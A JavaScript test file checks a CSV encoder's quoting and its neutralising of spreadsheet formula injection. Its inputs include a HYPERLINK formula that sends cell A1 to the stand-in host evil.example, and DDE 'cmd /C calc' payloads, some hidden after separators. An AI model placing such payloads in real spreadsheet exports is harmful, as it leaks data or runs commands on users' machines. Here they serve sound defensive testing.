import { expect, test } from "vitest";
import { csvField, csvRow } from "./csv-field";

test("a row ends its line, with empty fields for what is not there", () => {
  expect(csvRow(["Main Street", 3, null, ""])).toBe("Main Street,3,,\r\n");
});

test.each([
  ['Salt, pepper', '"Salt, pepper"'],
  ['The "big" one', '"The ""big"" one"'],
  ["two\nlines", '"two\nlines"'],
  ["two\r\nlines", '"two\r\nlines"'],
  ["a;b", '"a;b"'],
  [" spaced ", '" spaced "'],
  ["مرحبا 咖啡", "مرحبا 咖啡"],
])("a text is quoted where it has to be: %j", (text, field) => {
  expect(csvField(text)).toBe(field);
});

test.each([
  ['=HYPERLINK("https://evil.example/?"&A1,"Win")', `"'=HYPERLINK(""https://evil.example/?""&A1,""Win"")"`],
  ["=1+1", "'=1+1"],
  ["+44 20 7946 0000", "'+44 20 7946 0000"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@SUM(1,1)", `"'@SUM(1,1)"`],
  ["\t=1", `"\t'=1"`],
  ["\r=1", `"\r'=1"`],
  [" =1", `" '=1"`],
  ["＝1+1", "'＝1+1"],
])("no text is a formula to who opens the file: %j", (text, field) => {
  expect(csvField(text)).toBe(field);
});

test.each([
  ["x;=cmd|' /C calc'!A0;", `"x;'=cmd|' /C calc'!A0;"`],
  ["x\n=1", `"x\n'=1"`],
  ["x\r\n=1", `"x\r\n'=1"`],
  ["x\t@SUM(1)", `"x\t'@SUM(1)"`],
  ['x; "+1', `"x; ""'+1"`],
  ["x;＝1;-1", `"x;'＝1;'-1"`],
])("[R71] nor where another separator than the comma would begin a cell within it: %j", (text, field) => {
  expect(csvField(text)).toBe(field);
});

test("[R71] signs inside a text stay as they are", () => {
  expect(csvField("2+2=4; a-b")).toBe('"2+2=4; a-b"');
});

test("a number below nothing stays a number", () => {
  expect(csvField(-2)).toBe("-2");
});
